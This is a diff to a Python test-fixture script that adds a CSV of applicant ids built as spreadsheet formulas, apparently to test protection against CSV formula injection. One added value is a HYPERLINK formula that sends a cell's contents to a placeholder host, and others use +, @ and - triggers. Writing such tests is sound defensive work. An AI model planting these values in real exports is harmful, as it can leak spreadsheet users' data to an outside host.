@@ -120,6 +120,14 @@ with open(os.path.join(here, "applicants_excel_padded.csv"), "w", encoding="utf-
 with open(os.path.join(here, "applicants_unnamed_column.csv"), "w", encoding="utf-8", newline="") as f:
     f.write("cadre_id,,post,in_post_since,birth_date,grades\nA1,x,secretary,2010-01-01,1970-05-01,\n")
 
+# Cadre ids a spreadsheet would run as formulas: echoed to the output CSV, they must arrive as text.
+write("applicants_formula.csv", ["cadre_id", "post", "in_post_since", "birth_date", "grades"], [
+    ["=HYPERLINK(\"http://example.invalid/\"&A1)", "secretary", "2010-01-01", "1970-05-01", ""],
+    ["+1+1", "secretary", "2010-01-01", "1970-05-01", ""],
+    ["@SUM(A1)", "secretary", "2010-01-01", "1970-05-01", ""],
+    ["-2", "secretary", "2010-01-01", "1970-05-01", ""],
+])
+
 # --- disclosure: the golden record with two planted problems (an area of 0, an unknown holder)
 import json, re
 golden = os.path.join(here, "..", "golden")
